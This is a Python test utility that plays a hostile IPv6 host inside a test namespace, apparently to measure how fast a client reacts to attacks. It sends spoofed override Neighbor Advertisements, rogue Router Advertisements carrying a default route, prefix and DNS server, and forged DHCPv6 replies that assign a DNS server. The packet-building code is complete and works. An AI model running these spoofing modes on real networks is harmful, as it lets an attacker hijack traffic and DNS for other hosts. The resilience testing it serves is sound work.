#!/usr/bin/python3
"""A hostile IPv6 station on a packet socket, for a namespace the test created.

  nd_hostile.py DEV MAC na TARGET       an unsolicited override NA: TARGET is at MAC
  nd_hostile.py DEV MAC ra PREFIX DNS   RAs from fe80::bad: a default router, PREFIX/64, RDNSS DNS
  nd_hostile.py DEV MAC dhcp DNS        answers the first DHCPv6 Solicit heard: DNS server DNS
  nd_hostile.py DEV MAC solicit         (the client's side) one Solicit from port 546
With --expect FILE TEXT it then polls FILE every millisecond for TEXT (UTF-8) and prints the
milliseconds from the first frame sent to TEXT's arrival. Bounded by --count, --max-seconds.
"""
import argparse
import ipaddress
import socket
import struct
import time

ALL_NODES = ipaddress.IPv6Address("ff02::1").packed
ROGUE = ipaddress.IPv6Address("fe80::bad").packed


def checksum(src, dst, proto, payload):
    data = src + dst + struct.pack("!IxxxB", len(payload), proto) + payload
    data += b"\0" * (len(data) % 2)
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return struct.pack("!H", ~s & 0xFFFF)


def frame(mac, eth_dst, src, dst, proto, body, csum_at):
    body = body[:csum_at] + checksum(src, dst, proto, body) + body[csum_at + 2 :]
    hop = 255 if proto == 58 else 1
    ip6 = struct.pack("!IHBB", 6 << 28, len(body), proto, hop) + src + dst
    return eth_dst + mac + b"\x86\xdd" + ip6 + body


def icmp(mac, src, head, options):
    return frame(mac, b"\x33\x33\0\0\0\1", src, ALL_NODES, 58, head + options, 2)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("dev")
    p.add_argument("mac")
    p.add_argument("kind", choices=["na", "ra", "dhcp", "solicit"])
    p.add_argument("args", nargs="*")
    p.add_argument("--count", type=int, default=1)
    p.add_argument("--expect", nargs=2)
    p.add_argument("--max-seconds", type=float, default=10.0)
    a = p.parse_args()
    mac = bytes.fromhex(a.mac.replace(":", "").replace("-", ""))
    addr = [ipaddress.IPv6Address(x.split("/")[0]).packed for x in a.args]
    end = time.monotonic() + a.max_seconds
    if a.kind == "solicit":
        u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        u.bind(("::", 546))
        body = b"\x01\x12\x34\x56" + struct.pack("!HHHH6s", 1, 10, 3, 1, mac) + b"\0\x08\0\x02\0\0"
        u.sendto(body, ("ff02::1:2", 547, 0, socket.if_nametoindex(a.dev)))
        return
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x86DD))
    s.bind((a.dev, 0))
    s.settimeout(0.2)
    out = []
    if a.kind == "na":  # router, solicited off, override on; target link-layer option
        head = struct.pack("!BBHI", 136, 0, 0, 0xA0000000) + addr[0]
        out = [icmp(mac, addr[0], head, b"\x02\x01" + mac)]
    elif a.kind == "ra":  # hop limit 64, router lifetime 1800 s
        head = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
        opts = b"\x01\x01" + mac
        opts += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 14400, 0) + addr[0]
        opts += struct.pack("!BBHI", 25, 3, 0, 1800) + addr[1]
        out = [icmp(mac, ROGUE, head, opts)]
    while a.kind == "dhcp" and not out and time.monotonic() < end:
        try:
            f = s.recv(2048)
        except socket.timeout:
            continue
        if len(f) < 66 or f[20] != 17 or f[56:58] != b"\x02\x23" or f[62] != 1:
            continue
        server_id = struct.pack("!HHHH6s", 2, 10, 3, 1, mac)
        body = struct.pack("!HHHH", 547, 546, 0, 0) + b"\x02" + f[63:66] + server_id
        body = body + struct.pack("!HH", 23, 16) + addr[0]
        body = body[:4] + struct.pack("!H", len(body)) + body[6:]
        out = [frame(mac, f[6:12], ROGUE, f[22:38], 17, body, 6)]
    t0 = time.time()
    for n in range(a.count if out else 0):
        s.send(out[0])
        if n == 0 and a.expect:
            want, seen = a.expect[1].encode(), b""
            while want not in seen and time.monotonic() < end:
                time.sleep(0.001)
                with open(a.expect[0], "rb") as log:
                    seen = log.read()
            print("ms=%.1f" % ((time.time() - t0) * 1000) if want in seen else "ms=none")
        time.sleep(0.3)


if __name__ == "__main__":
    main()
